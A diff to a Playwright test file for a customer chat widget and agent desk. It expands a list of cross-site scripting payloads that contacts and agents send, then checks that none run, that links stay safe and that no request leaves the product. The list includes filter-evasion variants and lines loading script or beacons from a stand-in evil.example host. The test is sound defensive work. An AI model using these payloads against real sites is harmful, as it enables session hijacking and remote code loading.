@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import re
+from itertools import batched
 
 import pytest
 from axe_playwright_python.sync_playwright import Axe
@@ -152,34 +153,73 @@ def test_the_chat_works_by_keyboard_alone(chromium: Browser, product: Product) -
     expect(page.get_by_test_id("state-bar")).to_have_attribute("data-owner", "bot", timeout=PATIENCE)
 
 
-def test_nothing_that_a_contact_writes_runs_as_script_in_chat_or_desk(chromium: Browser, product: Product) -> None:
-    payloads = [
-        "<script>window.pwned=1</script>",
-        "<img src=x onerror=window.pwned=1>",
-        "<svg/onload=window.pwned=1>",
-        "javascript:window.pwned=1",
-        "[click](javascript:window.pwned=1)",
-        "\"><iframe srcdoc='<script>parent.pwned=1</script>'>",
-        "{{constructor.constructor('window.pwned=1')()}}",
-        "https://example.org/<script>window.pwned=1</script>",
-    ]
+SCRIPTS = [
+    "<script>window.pwned=1</script>",
+    "<ScRiPt >window.pwned=1</ScRiPt >",
+    "<script src=https://evil.example/x.js></script>",
+    "</script><script>window.pwned=1</script>",
+    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
+    "<img src=x onerror=window.pwned=1>",
+    '<img src="x" onerror="window.pwned=1" style="width:0">',
+    "<img src=https://evil.example/beacon.png>",
+    "<svg/onload=window.pwned=1>",
+    "<svg><script>window.pwned=1</script></svg>",
+    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
+    "<math><mtext></mtext><mglyph><style><img src=x onerror=window.pwned=1>",
+    "<body onload=window.pwned=1>",
+    "<details open ontoggle=window.pwned=1>",
+    "<input autofocus onfocus=window.pwned=1>",
+    "<video><source onerror=window.pwned=1></video>",
+    "<iframe src=javascript:parent.pwned=1></iframe>",
+    "\"><iframe srcdoc='<script>parent.pwned=1</script>'>",
+    "<object data=data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==>",
+    "<a href=javascript:window.pwned=1>click</a>",
+    "<form action=javascript:window.pwned=1><button>go</button></form>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<base href=https://evil.example/>",
+    "<template><script>window.pwned=1</script></template>",
+    "javascript:window.pwned=1",
+    "[click](javascript:window.pwned=1)",
+    '![x](x"onerror="window.pwned=1)',
+    "https://example.org/<script>window.pwned=1</script>",
+    "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1}",
+    "&lt;script&gt;window.pwned=1&lt;/script&gt; \\u003cscript\\u003ewindow.pwned=1",
+]
+
+
+def test_nothing_that_anybody_writes_runs_as_script_in_chat_or_desk(chromium: Browser, product: Product) -> None:
     contact, agent = page_of(chromium), page_of(chromium)
+    asked: list[str] = []
+    for page in (contact, agent):
+        page.on("dialog", lambda dialog: pytest.fail(f"a script spoke: {dialog.message}"))
+        page.on("request", lambda request: asked.append(request.url))
     contact.goto(product.base)
-    for payload in payloads:
-        write(contact, payload)
-        said(contact, "contact", payload)
-    if contact.get_by_test_id("state-bar").get_attribute("data-owner") == "bot":
-        contact.get_by_test_id("menu-human").click()
+    contact.get_by_test_id("menu-human").click()
     expect(contact.get_by_test_id("state-bar")).to_have_attribute("data-owner", "queue", timeout=PATIENCE)
+    for pair in batched(SCRIPTS, 2):  # a contact's own pace is limited
+        write(contact, " ".join(pair))
+        said(contact, "contact", " ".join(pair))
     sign_in(agent, product)
     shown = agent.locator("[data-testid=queue-item]:visible")
     shown.first.wait_for()
     for index in range(shown.count()):
         shown.nth(index).click()
         agent.get_by_test_id("transcript").wait_for()
+    agent.get_by_test_id("queue-item").filter(has_text=SCRIPTS[-1][:12]).first.click()
+    expect(agent.get_by_test_id("transcript")).to_contain_text(SCRIPTS[-1])
+    agent.get_by_test_id("claim").click()
+    expect(agent.get_by_test_id("resolve")).to_be_visible()
+    agent.get_by_test_id("reply-text").fill("\n".join(SCRIPTS))
+    agent.get_by_test_id("send").click()
+    said(contact, "agent", SCRIPTS[0])
+    contact.reload()
+    said(contact, "agent", SCRIPTS[0])
     contact.wait_for_timeout(300)
     for page in (contact, agent):
         assert page.evaluate("window.pwned") is None
+        links = page.locator("a:visible").evaluate_all("links => links.map(link => link.protocol)")
+        assert set(links) <= {"http:", "https:", "mailto:"}
+    assert not [url for url in asked if not url.startswith((product.base, "data:", "blob:"))]
 
 
 def test_the_widget_opens_on_another_site_that_is_listed(chromium: Browser, product: Product) -> None:
